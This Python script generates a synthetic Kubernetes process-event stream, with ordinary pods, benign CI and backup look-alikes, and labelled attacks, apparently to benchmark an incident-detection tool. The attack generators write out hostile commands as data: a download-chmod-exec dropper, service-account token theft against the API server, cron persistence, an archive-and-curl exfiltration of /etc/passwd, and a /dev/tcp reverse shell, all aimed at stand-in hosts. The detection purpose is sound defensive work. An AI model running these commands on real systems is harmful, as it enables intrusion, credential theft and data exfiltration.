#!/usr/bin/env python3
"""gen-incidents.py - a realistic cluster stream for incident building.

Dozens of pods on several nodes, each with a container init, an app main
process, its periodic connections and Kubernetes exec probes; benign
look-alikes (CI builds that download, chmod and run a tool and upload an
archive, database backups that archive and upload, monitoring agents that
run ps and ss); and interleaved multi-step attacks (download-chmod-exec,
service-account token then API server, persistence then beacon, discovery
then archive then exfiltration, reverse shells).  Every process has its
own exec_id and parent_exec_id, as Tetragon writes them, and events come
out in time order across all pods.

--truth FILE writes one JSON line per pod: its namespace and name, and for
an attacked pod the attack and its key ATT&CK technique, so a bench can
check where the incidents landed.  --live N writes instead N long-lived
processes on one node (for the memory figure at N live processes).
--minutes and --pods scale the stream.  Deterministic for a given seed.

usage: gen-incidents.py [--pods N] [--minutes M] [--seed S] [--truth FILE] > stream.jsonl
       gen-incidents.py --live N > live.jsonl
"""
import argparse, base64, json, random, sys

T0 = 1795687200  # 2026-11-26T10:00:00Z
RND = random.Random(1)


def stamp(t):
    sec = int(t)
    ns = int(round((t - sec) * 1e9))
    if ns >= 1000000000:
        sec, ns = sec + 1, ns - 1000000000
    import time as _t
    return _t.strftime("%Y-%m-%dT%H:%M:%S", _t.gmtime(sec)) + ".%09dZ" % ns


class Pod:
    def __init__(self, node, ns, wl, kind="Deployment"):
        sfx = "".join(RND.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(10))
        tail = "".join(RND.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(5))
        self.node, self.ns, self.wl, self.kind = node, ns, wl, kind
        self.name = "%s-%s-%s" % (wl, sfx, tail)
        self.cid = "containerd://%064x" % RND.getrandbits(256)

    def pod(self, pid, probe=False):
        c = {"id": self.cid, "name": self.wl, "image": {"id": "registry.example/%s/%s@sha256:%064x" % (
            self.ns, self.wl, RND.getrandbits(256)), "name": "registry.example/%s/%s:1.0" % (self.ns, self.wl)},
             "start_time": stamp(T0 - 3600), "pid": pid}
        if probe:
            c["maybe_exec_probe"] = True
        return {"namespace": self.ns, "name": self.name, "container": c, "workload": self.wl,
                "workload_kind": self.kind}


class Proc:
    seq = 0

    def __init__(self, pod, binary, args, parent=None, init=False, probe=False, node=None, t=0.0):
        Proc.seq += 1
        self.pod, self.binary, self.args, self.parent = pod, binary, args, parent
        self.node = node or pod.node
        self.pid = RND.randrange(100, 4000000)
        self.cpid = 1 if init else RND.randrange(2, 3000)
        self.probe = probe
        self.exec_id = base64.b64encode(("%s:%d:%d" % (self.node, 10**12 + Proc.seq * 7919, self.pid)).encode()).decode()
        self.start = t

    def msg(self, brief=False):
        m = {"exec_id": self.exec_id, "pid": self.pid, "uid": 0, "cwd": "/", "binary": self.binary,
             "arguments": self.args, "flags": "execve clone", "start_time": stamp(self.start),
             "auid": 4294967295, "parent_exec_id": self.parent.exec_id if self.parent else "",
             "refcnt": 1}
        if self.pod:
            m["pod"] = self.pod.pod(self.cpid, self.probe)
            m["docker"] = self.pod.cid[13:28]
        return m


def ev(kind, body, p, t):
    body["process"] = p.msg()
    if p.parent:
        body["parent"] = p.parent.msg()
    return (t, {kind: body, "node_name": p.node, "time": stamp(t)})


def exec_(p, t):
    p.start = t
    return ev("process_exec", {}, p, t)


def exit_(p, t):
    return ev("process_exit", {"signal": "", "status": 0, "time": stamp(t)}, p, t)


def connect(p, t, daddr, dport):
    return ev("process_kprobe", {"function_name": "tcp_connect", "policy_name": "connect",
                                 "action": "KPROBE_ACTION_POST",
                                 "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM",
                                                        "protocol": "IPPROTO_TCP", "saddr": "10.244.%d.%d" % (
                                                            RND.randrange(256), RND.randrange(256)),
                                                        "daddr": daddr, "sport": RND.randrange(32768, 61000),
                                                        "dport": dport, "state": "TCP_SYN_SENT"}}]}, p, t)


def file_write(p, t, path):
    return ev("process_kprobe", {"function_name": "security_file_permission", "policy_name": "files",
                                 "action": "KPROBE_ACTION_POST",
                                 "args": [{"file_arg": {"path": path, "permission": "-rw-r--r--"}},
                                          {"int_arg": 2}]}, p, t)


def child(out, parent, t, binary, args, life=0.3):
    """exec a child of parent at t, exit it after life seconds; return it."""
    c = Proc(parent.pod, binary, args, parent, t=t)
    out.append(exec_(c, t))
    out.append(exit_(c, t + life))
    return c


# --- ordinary pods --------------------------------------------------------------------

APPS = {
    "shop": [("web", "/usr/sbin/nginx", "-g daemon off;", None), ("cart", "/usr/bin/tini", "--",
             ("/usr/local/bin/node", "server.js")), ("checkout", "/usr/bin/tini", "--",
             ("/usr/bin/java", "-jar /app/checkout.jar"))],
    "payments": [("api", "/usr/bin/tini", "--", ("/usr/bin/python3", "-m gunicorn app:app"))],
    "data": [("worker", "/usr/bin/tini", "--", ("/usr/local/bin/node", "worker.js"))],
}
PEERS = [("10.96.14.2", 5432), ("10.96.20.9", 6379), ("10.96.3.1", 443), ("10.96.8.8", 8080)]


def app_pod(out, node, ns, wl, init_bin, init_args, main, minutes, probes):
    pod = Pod(node, ns, wl)
    init = Proc(pod, init_bin, init_args, None, init=True, t=T0)
    out.append(exec_(init, T0 + RND.random()))
    app = init
    if main:
        app = Proc(pod, main[0], main[1], init, t=T0 + 1)
        out.append(exec_(app, T0 + 1 + RND.random()))
    t = T0 + 5 + RND.random() * 20
    while t < T0 + minutes * 60:
        out.append(connect(app, t, *RND.choice(PEERS)))
        t += 15 + RND.random() * 30
    if probes:
        runc = Proc(pod, "/usr/bin/runc", "exec", init, t=T0)
        t = T0 + 3 + RND.random() * 10
        while t < T0 + minutes * 60:
            pr = Proc(pod, "/bin/sh", "-c \"wget -q -O- http://127.0.0.1:8080/healthz\"", runc, probe=True, t=t)
            out.append(exec_(pr, t))
            out.append(exit_(pr, t + 0.05))
            t += 10
    return pod, init, app


# --- benign look-alikes -----------------------------------------------------------------

def job(out, node, t, ns, wl, script, steps, peer, gap):
    """A Job pod whose init (the script) runs steps one after another;
    curl steps connect to peer."""
    pod = Pod(node, ns, wl, "Job")
    init = Proc(pod, "/bin/sh", script, None, init=True, t=t)
    out.append(exec_(init, t))
    for b, a in steps:
        t += gap + RND.random() * gap * 1.5
        c = child(out, init, t, b, a, life=1.5)
        if b == "/usr/bin/curl":
            out.append(connect(c, t + 0.2, peer, 443))
    out.append(exit_(init, t + 3))
    return pod


def ci_build(out, node, t):
    return job(out, node, t, "ci", "runner", "-c ./ci.sh", [
        ("/usr/bin/git", "clone --depth 1 https://git.example.com/shop/web.git /workspace/src"),
        ("/usr/bin/curl", "-fsSL -o /workspace/bin/golangci-lint https://github.com/golangci/golangci-lint/releases/download/v1.62.0/golangci-lint"),
        ("/bin/chmod", "+x /workspace/bin/golangci-lint"),
        ("/workspace/bin/golangci-lint", "run ./..."),
        ("/usr/bin/make", "-C /workspace/src build"),
        ("/usr/bin/gcc", "-O2 -c main.c -o main.o"), ("/usr/bin/gcc", "-O2 -c util.c -o util.o"),
        ("/usr/bin/ld", "-o app main.o util.o"),
        ("/usr/bin/npm", "ci --prefix /workspace/src/ui"),
        ("/bin/tar", "czf /workspace/artifacts.tgz -C /workspace/src build"),
        ("/usr/bin/curl", "-fsS -T /workspace/artifacts.tgz https://artifacts.example.com/shop/web/")],
        "198.51.100.20", 2)


def backup(out, node, t):
    return job(out, node, t, "backup", "pg-backup", "/backup.sh", [
        ("/usr/bin/pg_dump", "-h db.data.svc -U backup shop -f /tmp/shop.sql"),
        ("/bin/gzip", "-9 /tmp/shop.sql"),
        ("/bin/tar", "czf /tmp/shop-backup.tgz /tmp/shop.sql.gz"),
        ("/usr/bin/curl", "-fsS -T /tmp/shop-backup.tgz https://backup.example.com/upload/")],
        "198.51.100.30", 3)


def monitoring(out, node, minutes):
    pod = Pod(node, "monitoring", "node-agent", "DaemonSet")
    init = Proc(pod, "/usr/bin/tini", "--", None, init=True, t=T0)
    out.append(exec_(init, T0))
    agent = Proc(pod, "/usr/local/bin/agent", "--interval 30s", init, t=T0 + 1)
    out.append(exec_(agent, T0 + 1))
    t = T0 + 10
    while t < T0 + minutes * 60:
        child(out, agent, t, "/usr/bin/ps", "-eo pid,comm,rss", 0.1)
        child(out, agent, t + 0.5, "/usr/bin/df", "-P", 0.1)
        t += 30
    return pod


# --- attacks -------------------------------------------------------------------------------

def dropper(out, pod, init, app, t):
    sh = child(out, app, t, "/bin/sh", "-c \"curl -fsSL -o /tmp/.x http://203.0.113.7/x; chmod +x /tmp/.x; /tmp/.x\"", 20)
    child(out, sh, t + 1, "/usr/bin/curl", "-fsSL -o /tmp/.x http://203.0.113.7/x", 1)
    child(out, sh, t + 4, "/bin/chmod", "+x /tmp/.x", 0.1)
    x = child(out, sh, t + 6, "/tmp/.x", "", 30)
    out.append(connect(x, t + 7, "203.0.113.7", 4444))
    return "download-chmod-exec", "T1204.002"


def token(out, pod, init, app, t):
    sh = child(out, app, t, "/bin/sh", "-c \"T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -sk -H \\\"Authorization: Bearer $T\\\" https://kubernetes.default.svc/api/v1/namespaces/payments/secrets\"", 12)
    child(out, sh, t + 0.2, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0.1)
    c = child(out, sh, t + 9, "/usr/bin/curl", "-sk -H \"Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQifQ.c2lnbmF0dXJlLXNpZ25hdHVyZQ\" https://kubernetes.default.svc/api/v1/namespaces/payments/secrets", 1)
    out.append(connect(c, t + 9.2, "10.96.0.1", 443))
    return "token-then-apiserver", "T1528"


def persistence(out, pod, init, app, t):
    sh = child(out, app, t, "/bin/sh", "-c \"echo '*/5 * * * * /tmp/.u' >> /var/spool/cron/crontabs/root\"", 15)
    out.append(file_write(sh, t + 0.1, "/var/spool/cron/crontabs/root"))
    child(out, sh, t + 5, "/usr/bin/wget", "-q -O /tmp/.u http://203.0.113.9/u", 1)
    out.append(connect(sh, t + 6, "203.0.113.9", 80))
    return "persistence-then-activity", "T1053.003"


def exfil(out, pod, init, app, t):
    runc = Proc(pod, "/usr/bin/runc", "exec -t", None, t=t)   # kubectl exec: the parent is outside the pod
    runc.pod = None
    bash = Proc(pod, "/bin/bash", "", runc, t=t)
    out.append(exec_(bash, t))
    for i, (b, a) in enumerate([("/usr/bin/id", ""), ("/usr/bin/whoami", ""), ("/bin/uname", "-a"),
                                ("/bin/hostname", ""), ("/usr/bin/env", "")]):
        child(out, bash, t + 2 + i * 3, b, a, 0.1)
    child(out, bash, t + 20, "/bin/tar", "czf /tmp/.d.tgz /app/config /etc/passwd", 1)
    c = child(out, bash, t + 25, "/usr/bin/curl", "-s -F f=@/tmp/.d.tgz http://203.0.113.50:8080/up", 1)
    out.append(connect(c, t + 25.2, "203.0.113.50", 8080))
    out.append(exit_(bash, t + 40))
    return "discovery-archive-exfil", "T1041"


def revshell(out, pod, init, app, t):
    child(out, app, t, "/bin/bash", "-c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"", 60)
    return "reverse-shell", "T1059.004"


def stream(a, truth):
    out = []
    nodes = ["node-%02d" % i for i in range(1, 7)]
    pods = []   # (pod, init, app, attackable)
    for i in range(a.pods):
        ns = RND.choice(list(APPS))
        wl, ib, ia, main = RND.choice(APPS[ns])
        pod, init, app = app_pod(out, nodes[i % len(nodes)], ns, wl, ib, ia, main, a.minutes, i % 2 == 0)
        pods.append((pod, init, app))
    benign = []
    for k in range(max(2, a.pods // 12)):
        benign.append(ci_build(out, nodes[k % len(nodes)], T0 + 60 + k * 97))
        benign.append(backup(out, nodes[(k + 3) % len(nodes)], T0 + 90 + k * 131))
    for n in nodes:
        benign.append(monitoring(out, n, a.minutes))
    attacks = [dropper, token, persistence, exfil, dropper, token, persistence, exfil, revshell, revshell][:a.attacks]
    if a.only:
        attacks = [atk for atk in attacks if atk.__name__ in a.only.split(",")]
    want_ns = {dropper: "shop", token: "payments", persistence: "data", exfil: "shop", revshell: "shop"}
    used = set()
    span = max(60, a.minutes * 60 - 180)
    for k, atk in enumerate(attacks):
        cand = [p for p in pods if p[0].ns == want_ns[atk] and id(p[0]) not in used] or \
               [p for p in pods if id(p[0]) not in used]
        pod, init, app = cand[0]
        used.add(id(pod))
        name, tech = atk(out, pod, init, app, T0 + 40 + k * span / len(attacks) + RND.random() * 10)
        truth.append({"namespace": pod.ns, "pod": pod.name, "attack": name, "technique": tech})
    for pod, _, _ in pods:
        if id(pod) not in used:
            truth.append({"namespace": pod.ns, "pod": pod.name, "benign": True})
    for pod in benign:
        truth.append({"namespace": pod.ns, "pod": pod.name, "benign": True, "lookalike": pod.ns})
    out.sort(key=lambda e: e[0])
    return out


def live(n):
    pod = Pod("node-01", "batch", "fanout")
    init = Proc(pod, "/usr/bin/tini", "--", None, init=True, t=T0)
    rows = [exec_(init, T0)]
    for i in range(n):
        t = T0 + 1 + i * 0.001
        rows.append(exec_(Proc(pod, "/usr/local/bin/worker", "--shard %d" % i, init, t=t), t))
    return rows


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--pods", type=int, default=48)
    ap.add_argument("--minutes", type=int, default=20)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--truth")
    ap.add_argument("--live", type=int, default=0)
    ap.add_argument("--attacks", type=int, default=10, help="the first N of the attack list")
    ap.add_argument("--only", help="comma-separated attack kinds: dropper,token,persistence,exfil,revshell")
    a = ap.parse_args()
    RND.seed(a.seed)
    truth = []
    rows = live(a.live) if a.live else stream(a, truth)
    w = sys.stdout
    for _, e in rows:
        w.write(json.dumps(e, separators=(",", ":")) + "\n")
    if a.truth:
        with open(a.truth, "w") as f:
            for t in truth:
                f.write(json.dumps(t) + "\n")


if __name__ == "__main__":
    main()
